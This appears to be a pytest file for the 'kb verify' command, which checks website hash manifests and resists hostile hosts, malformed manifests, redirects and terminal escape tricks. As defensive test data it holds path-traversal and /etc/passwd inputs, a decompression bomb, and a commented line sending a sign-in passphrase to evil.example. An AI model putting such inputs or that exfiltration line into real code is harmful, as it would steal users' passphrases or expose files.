"""`kb verify` against hosts and manifests that mean harm: a sentence, soon, and nothing secret or strange in it."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from kb.cli import main
from kb.locking.lock import lock_site
from kb.website.output.manifest import manifest_bytes, read_manifest, write_manifest
from kb.website.verify.fetch import FetchError, Limits, OutOfTimeError, Visit, read_site
from tests.cli.hostile_host import DIGEST, HOSTILE, Handler, endless, host
from tests.cli.running import call_kb, said
from tests.locking.desk import keys_of, write_desk

ZEROS = hashlib.sha256(b"").hexdigest()


def _manifest(files: object, **more: object) -> bytes:
    return json.dumps({"format": 1, "algorithm": "sha256", "files": files, **more}).encode()


def _sums(*lines: str, header: str = manifest_bytes({}).decode()) -> bytes:
    return (header + "".join(f"{line}\n" for line in lines)).encode()


NO_MANIFESTS: dict[str, bytes] = {
    "nothing": b"",
    "no text": b"\xff\xfe\x00",
    "a number": b"1",
    "a list": b"[]",
    "not a number": b"NaN",
    "not a number as its format": b'{"format": NaN, "files": {}}',
    "yes as its format": b'{"format": true, "files": {"a": "' + DIGEST.encode() + b'"}}',
    "a long number": b'{"format": ' + b"9" * 5000 + b', "files": {}}',
    "no files": b'{"format": 1}',
    "files as a list": _manifest([["a", DIGEST]]),
    "files as a text": _manifest("a"),
    "deep": b'{"format": 1, "files": ' + b"[" * 100_000,
    "deep objects": b'{"a":' * 100_000,
    "another algorithm": _manifest({"a": DIGEST}, algorithm="md5"),
    "a number as a hash": _manifest({"a": 1}),
    "a short hash": _manifest({"a": "00"}),
    "no hash": _manifest({"a": None}),
    "a hash in capitals": _manifest({"a": "A" * 64}),
    "a folder above": _manifest({"../a": DIGEST}),
    "a folder above, inside": _manifest({"a/../../b": DIGEST}),
    "a path from the root": _manifest({"/etc/passwd": DIGEST}),
    "another host": _manifest({"//evil.example/a": DIGEST}),
    "an empty path": _manifest({"": DIGEST}),
    "a path with a zero": _manifest({"a\0b": DIGEST}),
    "half a letter": _manifest({"a\ud800": DIGEST}),
    "a file twice": b'{"format": 1, "files": {"a": "' + DIGEST.encode() + b'", "a": "' + ZEROS.encode() + b'"}}',
    "files twice": b'{"format": 1, "files": {}, "files": {}}',
    "colours": _manifest({"\x1b[31m/../a": DIGEST}),
    "another first line": _sums(f"{DIGEST}  a", header=""),
    "no end": _sums(f"{DIGEST}  a").rstrip(),
    "half a letter in a line": _sums(f"{DIGEST}  ").rstrip(b"\n") + b"\xc3\n",
    "words": _sums("words"),
    "an empty line": _sums(""),
    "a line of no path": _sums(f"{DIGEST}  "),
    "one blank": _sums(f"{DIGEST} a"),
    "a short sum": _sums("00  a"),
    "a sum in capitals": _sums(f"{'A' * 64}  a"),
    "another tool's line": _sums(f"SHA256 (a) = {DIGEST}"),
    "a line of a folder above": _sums(f"{DIGEST}  ../a"),
    "an escaped folder above": _sums(f"\\{DIGEST}  a/..\\\\/../../b/.."),
    "a line from the root": _sums(f"{DIGEST}  /etc/passwd"),
    "a line of another host": _sums(f"{DIGEST}  //evil.example/a"),
    "a line with a zero": _sums(f"{DIGEST}  a\0b"),
    "a line twice": _sums(f"{DIGEST}  a", f"{ZEROS}  a"),
    "a line of colours": _sums(f"{DIGEST}  \x1b[31m/../a"),
}


def _name_of(manifest: bytes) -> str:
    return "kb-manifest.json" if manifest.startswith(b"{") else "SHA256SUMS"


@pytest.mark.parametrize("name", NO_MANIFESTS)
def test_what_is_no_manifest_is_said_in_a_sentence(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / _name_of(NO_MANIFESTS[name])).write_bytes(NO_MANIFESTS[name])
    assert main(["verify", str(tmp_path)]) == 2
    told = capsys.readouterr()
    assert "no list of hashes" in told.err or "SHA256SUMS cannot be read" in told.err
    assert "Traceback" not in told.err and "fault of kb" not in told.err
    assert all(char.isprintable() or char == "\n" for char in told.err + told.out)
    with pytest.raises(ValueError, match="no list of hashes"):
        read_manifest(NO_MANIFESTS[name])


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_host_ends_with_a_sentence(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Asked for its manifest, and for a file."""
    with host(HOSTILE[name]) as server:
        visit = Visit(Limits(file_bytes=4 << 20, file_seconds=1))
        with pytest.raises(FetchError) as failed:
            visit.read(read_site(server.address), "SHA256SUMS", 1 << 20)
        assert str(failed.value).isprintable()
        if name != "coloured_reason":
            with pytest.raises(FetchError):
                visit.hash(read_site(server.address), "a")
        assert main(["verify", server.address, "--seconds", "1"]) == 2
    told = capsys.readouterr()
    assert "cannot be read" in told.err
    assert all(char.isprintable() or char == "\n" for char in told.err + told.out)


@pytest.mark.parametrize("name", ["silent", "dripping", "dripping_headers", "endless_continue"])
def test_a_host_that_takes_its_time_is_not_asked_for_every_file(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    with host(lambda handler: handler.manifest() or HOSTILE[name](handler)) as server:
        assert main(["verify", server.address, "--seconds", "1"]) == 1
        assert len(server.asked) < 20
    out = capsys.readouterr().out
    assert "not done after 1 seconds" in out and "takes too long" in out


def test_all_files_together_have_limits_too() -> None:
    with host(endless) as server:
        with pytest.raises(FetchError, match="in all"):
            Visit(Limits(all_bytes=3 << 20)).hash(read_site(server.address), "a")
        with pytest.raises(OutOfTimeError, match="in all"):
            Visit(Limits(all_seconds=0)).hash(read_site(server.address), "a")


def test_a_packed_bomb_takes_little_memory() -> None:
    def small() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (400 << 20, 400 << 20))

    with host(HOSTILE["bomb"]) as server:
        code = "import sys; from kb.cli import main; sys.exit(main(sys.argv[1:]))"
        done = subprocess.run(
            [sys.executable, "-c", code, "verify", server.address], capture_output=True, preexec_fn=small, timeout=300
        )
    assert done.returncode == 2 and b"larger than" in done.stderr, done.stderr


FOREIGN = [
    "http://localhost:{port}/x",
    "https://127.0.0.1:{port}/x",
    "http://127.0.0.1:1/x",
    "http://evil.example/x",
    "file:///etc/passwd",
    "ftp://127.0.0.1/x",
    "//localhost/x",
    "http://u:p@127.0.0.1:{port}/x",
    "http://[/x",
]


@pytest.mark.parametrize("target", FOREIGN)
def test_a_redirect_to_another_host_is_not_followed(target: str, capsys: pytest.CaptureFixture[str]) -> None:
    def answer(handler: Handler) -> object:
        place = target.format(port=handler.server.server_port)
        return handler.manifest(a=DIGEST) or (handler.path == "/a" and handler.reply(b"", 302, Location=place))

    with host(answer) as server:
        assert main(["verify", server.address]) == 1
        assert [path for path, _ in server.asked] == ["/SHA256SUMS", "/a"]
    assert capsys.readouterr().out.startswith("unread   a: ")


def test_a_redirect_within_the_host_is_followed(capsys: pytest.CaptureFixture[str]) -> None:
    def answer(handler: Handler) -> object:
        is_old = handler.path == "/x.html"
        return handler.manifest(**{"x.html": ZEROS}) or (
            handler.reply(b"", 308, Location="/x") if is_old else handler.reply(b"")
        )

    with host(answer) as server:
        assert main(["verify", server.address]) == 0, capsys.readouterr().out


def test_it_looks_like_an_ordinary_browser() -> None:
    with host(lambda handler: handler.manifest(a=ZEROS) or handler.reply(b"")) as server:
        assert main(["verify", server.address]) == 0
        for _, headers in server.asked:
            assert headers["User-Agent"].startswith("Mozilla/5.0 (") and "Chrome/" in headers["User-Agent"]
            assert "text/html" in headers["Accept"] and "gzip" in headers["Accept-Encoding"]
            assert "kb" not in "".join(headers.values()).lower()


def test_what_a_host_packs_is_unpacked(capsys: pytest.CaptureFixture[str]) -> None:
    def answer(handler: Handler) -> object:
        files = {"a.html": hashlib.sha256(b"words " * 9000).hexdigest()}
        return handler.manifest(**files) or handler.reply(gzip.compress(b"words " * 9000), Content_Encoding="gzip")

    with host(answer) as server:
        assert main(["verify", server.address]) == 0, capsys.readouterr().out


SECRETS = ["hunter2", "owner", "tok3n"]


@pytest.mark.parametrize(
    "where",
    [
        "http://owner:hunter2@127.0.0.1:{port}/desk?key=tok3n",
        "HTTP://owner:hunter2@127.0.0.1:{port}/desk?key=tok3n",
        "http://owner:hunter2@127.0.0.1:1/desk?key=tok3n",
        "http://owner:hunter2@no-such-host.invalid/?key=tok3n",
        "http://owner:hun/ter2hunter2@127.0.0.1/",
        "http://owner:hunter2@127.0.0.1:port/",
        "http://owner:hunter2@[::1/",
        "http://owner:hunter2@/",
        "http:/owner:hunter2@127.0.0.1/",
        "http:owner:hunter2@127.0.0.1/",
        "ftp://owner:hunter2@127.0.0.1/",
        "owner:hunter2@127.0.0.1",
    ],
)
@pytest.mark.parametrize("as_manifest", [False, True])
def test_what_is_secret_in_an_address_is_never_printed(
    where: str, as_manifest: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with host(lambda handler: handler.reply(b"", 401)) as server:
        place = where.format(port=server.server_port)
        assert main(["verify", str(tmp_path), "--manifest", place] if as_manifest else ["verify", place]) == 2
        told = capsys.readouterr()
        assert not [secret for secret in SECRETS if secret in told.out + told.err], told.err
        assert "fault of kb" not in told.err
        if where.lower().startswith("http://owner:hunter2@127.0.0.1:{port}/desk"):
            (path, headers), *_ = server.asked
            assert path.endswith("?key=tok3n") and headers["Authorization"] == "Basic b3duZXI6aHVudGVyMg=="


def test_names_are_printed_so_that_no_terminal_obeys_them(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for name in ("a\x1b[2Jb", "c\rd", "e\nf", "g\u202eh", "đổi", "x\u200by"):
        (tmp_path / name).write_text("")
    (tmp_path / "SHA256SUMS").write_bytes(_sums(f"{DIGEST}  \x1b]0;owned\x07"))
    assert main(["verify", str(tmp_path)]) == 1
    out = capsys.readouterr().out
    assert all(char.isprintable() or char == "\n" for char in out)
    assert out.count("\n") == 7 and r"a\x1b[2Jb" in out and "đổi" in out and r"g\u202eh" in out


@pytest.mark.parametrize("kind", ["pipe", "link to a folder", "dead link", "unreadable name", "link to a device"])
def test_what_is_no_plain_file_is_told(kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "index.html").write_text("x")
    write_manifest(tmp_path)
    make: dict[str, Callable[[Path], object]] = {
        "pipe": os.mkfifo,
        "link to a folder": lambda path: path.symlink_to("/"),
        "dead link": lambda path: path.symlink_to("nowhere"),
        "unreadable name": lambda path: os.close(os.open(os.fsencode(path) + b"\xff", os.O_CREAT)),
        "link to a device": lambda path: path.symlink_to("/dev/zero"),
    }
    make[kind](tmp_path / "odd")
    assert main(["verify", str(tmp_path)]) == 1
    assert "odd" in capsys.readouterr().out


@pytest.fixture
def locked(tmp_path: Path) -> Path:
    folder = tmp_path / "locked"
    lock_site(write_desk(tmp_path / "desk", {"assets/karaoke.mp4": b"short"}), folder, keys_of("lan"))
    write_manifest(folder)
    return folder


SWAPPED = ["index.html", "404.html", "kb-worker.js", "kb-lock/sign-in.js", "kb-lock/whole.js", "kb-lock/bar.js"]


def test_a_locked_edition_is_right(locked: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(locked)]) == 0, capsys.readouterr().out
    assert "locked edition with this version's sign-in page" in capsys.readouterr().err
    with host(lambda handler: _serve(handler, locked)) as server:
        assert main(["verify", server.address]) == 0, capsys.readouterr().out


def _serve(handler: Handler, folder: Path) -> None:
    name = handler.path.lstrip("/") or "index.html"
    is_there = (folder / name).is_file() and not name.startswith(("_", ".", "CNAME"))
    handler.reply((folder / (name if is_there else "404.html")).read_bytes(), 200 if is_there else 404)


@pytest.mark.parametrize("name", SWAPPED)
def test_a_swapped_script_of_the_sign_in_page_is_told_even_if_the_manifest_was_swapped_too(
    name: str, locked: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with (locked / name).open("ab") as file:
        file.write(b"\n// fetch('https://evil.example/?' + passphrase)\n")
    write_manifest(locked)
    assert main(["verify", str(locked)]) == 1
    assert f"foreign  {name}" in capsys.readouterr().out
    with host(lambda handler: _serve(handler, locked)) as server:
        assert main(["verify", server.address]) == 1
    assert f"foreign  {name}" in capsys.readouterr().out


@pytest.mark.parametrize("name", ["evil.js", "kb-lock/evil.js", "kb-lock/files/evil.js", "scripts/late/index.html"])
def test_a_listed_file_that_does_not_belong_into_a_locked_edition_is_told(
    name: str, locked: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (locked / name).parent.mkdir(parents=True, exist_ok=True)
    (locked / name).write_text("in the clear")
    write_manifest(locked)
    assert main(["verify", str(locked)]) == 1
    assert f"foreign  {name}" in capsys.readouterr().out


@pytest.mark.parametrize("name", ["kb-lock/release.json", "kb-lock/sign-in.js", "kb-worker.js"])
def test_a_locked_edition_without_one_of_its_files_is_told(
    name: str, locked: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (locked / name).unlink()
    write_manifest(locked)
    assert main(["verify", str(locked)]) == 1
    assert f"foreign  {name}" in capsys.readouterr().out


@pytest.mark.parametrize("rounds", [1, 599_999, 10_000_001, True, "600000", None])
def test_a_locked_folder_that_asks_for_other_rounds_than_the_sign_in_page_takes_is_told(
    rounds: object, locked: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    release = locked / "kb-lock/release.json"
    row = json.loads(release.read_text())
    for envelope in row["envelopes"].values():
        envelope["iterations"] = rounds
    release.write_text(json.dumps(row))
    write_manifest(locked)
    assert main(["verify", str(locked)]) == 1
    assert "foreign  kb-lock/release.json: asks for a number of rounds" in capsys.readouterr().out


def test_settings_for_a_server_warn_where_the_agents_edition_is_not_locked(locked: Path, tmp_path: Path) -> None:
    assert call_kb(tmp_path, "init", "shop").returncode == 0
    for server in ("nginx", "caddy"):
        ask = ["hosting", server, "--edition", "agents", "--site"]
        assert not call_kb(tmp_path / "shop", *ask, str(locked)).stdout.startswith(b"#")
        for folder in (str(tmp_path / "desk"), "no/such/folder", "odd\x1b[2J\nname"):
            done = call_kb(tmp_path / "shop", *ask, folder)
            first = done.stdout.decode().splitlines()[0]
            assert first.startswith("# Warning: ") and "locked" in first and first.isprintable(), said(done)
        assert not call_kb(tmp_path / "shop", "hosting", server).stdout.startswith(b"#")
    (locked / "scripts.html").write_text("in the clear")
    assert call_kb(tmp_path / "shop", *ask, str(locked)).stdout.startswith(b"# Warning")
